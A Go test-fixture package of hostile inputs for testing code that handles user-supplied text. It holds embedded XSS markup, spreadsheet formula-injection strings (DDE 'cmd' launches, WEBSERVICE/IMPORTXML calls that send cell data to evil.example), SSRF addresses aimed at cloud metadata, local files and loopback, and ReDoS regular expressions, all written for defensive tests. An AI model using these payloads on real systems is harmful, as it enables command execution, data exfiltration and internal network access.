// Package hostile is what somebody would write who means ill, for tests of every
// place that shows, prints, stores or follows what others wrote.
package hostile

import (
	_ "embed"
	"strings"
)

//go:embed xss.txt
var xss string

// Markup returns texts that would run a script or change a page if any of them were
// taken for more than text. A script of theirs sets window.pwned; elements of theirs
// carry the attribute x-evil or are of a kind that no page has.
func Markup() (texts []string) {
	for line := range strings.Lines(xss) {
		if line = strings.TrimSuffix(line, "\n"); !strings.HasPrefix(line, "# ") {
			texts = append(texts, line)
		}
	}
	return texts
}

// Formulas returns what a spreadsheet would reckon, look up or run.
func Formulas() []string {
	return []string{
		"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1", " =1", `=HYPERLINK("https://evil.example","x")`,
		`=cmd|'/C calc'!A0`, `+cmd|'/C calc'!A0`, `-2+3+cmd|'/C calc'!A0`, `@SUM(1+9)*cmd|'/C calc'!A0`, `=DDE("cmd";"/C calc";"x")`,
		`=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")`, `=WEBSERVICE("https://evil.example/"&A1)`, `=IMAGE("https://evil.example/x.png")`,
		`=INDIRECT("A1")`, `="a"&"b"`, `=SUM(1;2)`, `=-1`, `==1`, `=+1`, "\u200b=1", "\ufeff=1", "\u00a0=1", "=1\n=2", `=HYPERLINK(""x"")`,
	}
}

// Addresses returns what leads elsewhere than to a host, whose name some of them try to
// pass for, or is no address at all.
func Addresses(host string) (all []string) {
	for _, address := range addresses {
		all = append(all, strings.ReplaceAll(address, "logos.example.com", host))
	}
	return all
}

var addresses = []string{
	"", "logos.example.com/a.png", "//logos.example.com/a.png", "/a.png", "https:///a.png", "https:a.png",
	"http://logos.example.com/a.png", "HTTP://logos.example.com/a.png", "ftp://logos.example.com/a.png", "file:///etc/passwd",
	"gopher://logos.example.com/1", "data:image/png;base64,AAAA", "javascript:alert(1)", "unix:///var/run/docker.sock",
	"https://evil.example/a.png", "https://logos.example.com.evil.example/a.png", "https://evil.example/logos.example.com",
	"https://xlogos.example.com/a.png", "https://a.logos.example.com/a.png", "https://example.com/a.png", "https://logos.example.com./a.png",
	"https://logos.example.com@evil.example/a.png", "https://user@logos.example.com/a.png", "https://user:pass@logos.example.com/",
	"https://logos.example.com:80/a.png", "https://logos.example.com:8443/a.png", "https://logos.example.com:22/", "https://logos.example.com:0443/",
	"https://logos.example.com#@evil.example/", "https://logos.example.com/a.png#x", "https://logos.example.com\\@evil.example/",
	"https://evil.example\\.logos.example.com/", "https://logos.example.com%2eevil.example/", "https://logos%2eexample%2ecom/", "https://logos.example.com%00.evil.example/",
	"https://127.0.0.1/a.png", "https://127.1/", "https://0/", "https://0.0.0.0/", "https://2130706433/", "https://0x7f000001/", "https://0177.0.0.1/",
	"https://127.0.0.1.nip.io/", "https://localhost/", "https://localhost.localdomain/", "https://[::1]/", "https://[::]/", "https://[::ffff:127.0.0.1]/",
	"https://[fe80::1%25eth0]/", "https://[fd00::1]/", "https://169.254.169.254/latest/meta-data/", "https://[fd00:ec2::254]/", "https://metadata.google.internal/",
	"https://10.0.0.1/", "https://172.16.0.1/", "https://192.168.1.1/", "https://100.64.0.1/", "https://①②⑦.⓪.⓪.①/", "https://ⓛogos.example.com/",
	"https://logos.example.com /a.png", "https://logos.example.com\n/a.png", "https://logos.example.com\t.evil.example/", " https://logos.example.com/a.png",
	"https://logos.example.com:443:443/", "https://[logos.example.com]/", "https://logos..example.com/", "https://-logos.example.com/",
	"https://logos.example.com/" + strings.Repeat("a", 2000),
}

// Patterns returns regular expressions that take others than RE2 forever, multiply when they are compiled, hold much
// or are none.
func Patterns() []string {
	return []string{
		"(a+)+$", "^(([a-z])+.)+[A-Z]([a-z])+$", "(a|aa)+$", "(a|a?)+$", "(.*a){20}$", "^(0|[0-9])*x$", "([0-9]+)*\\1$", "(?=0)0", "(?<=0)1", "(?>0)",
		"((((((0{10}){10}){10}){10}){10}){10})", "(((0{100}){100}){100})", "(0{1000}){1000}", "((0?){1000}){1000}", "((((0*)*)*)*)*{1000}",
		"x{1001}", "x{1000}", "x{999}{999}", "(?:x{1000}){1000}", "(?i)(?:\\pL{30}){30}", strings.Repeat("\\pL{1000}", 50), strings.Repeat("[0-9]{1000}", 46),
		strings.Repeat("(?i)\\p{L}\\p{N}", 30), strings.Repeat("(", 256) + strings.Repeat(")", 256), strings.Repeat("(?:", 100) + "0" + strings.Repeat(")*", 100),
		strings.Repeat("0?", 256), strings.Repeat("0?", 128) + strings.Repeat("0", 128), strings.Repeat(".*", 250), strings.Repeat("3?", 1<<20), "[" + strings.Repeat("\\pL", 160) + "]",
		"[[:alpha:]-\\x{10ffff}]", "[z-a]", "[", "(", ")", "*", "\\", "\\C", "\\xZZ", "\\p{Nope}", "(?P<n>0)(?P<n>1)", "\x00", "\xff\xfe", "^" + strings.Repeat("(0|1)", 100) + "$",
	}
}
